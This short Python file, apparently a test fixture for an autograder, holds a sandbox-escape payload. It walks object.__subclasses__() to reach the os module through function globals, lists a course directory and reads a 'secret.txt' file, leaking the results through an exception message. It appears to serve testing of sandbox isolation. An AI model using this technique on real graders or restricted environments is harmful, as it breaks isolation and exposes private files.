# tries = "walks from object to all of its subclasses, and to the modules that their functions know"
# exercise = "which-was-it"


def customer(bell, patience):
    for each in object.__subclasses__():
        try:
            space = each.__init__.__globals__
        except AttributeError:
            continue
        if "sys" in space and "os" in space["sys"].modules:
            os = space["sys"].modules["os"]
            raise ValueError(str(os.listdir("@COURSE@")) + open_(os, "@HOME@/secret.txt"))


def open_(os, path):
    return os.read(os.open(path, os.O_RDONLY), 1000).decode()
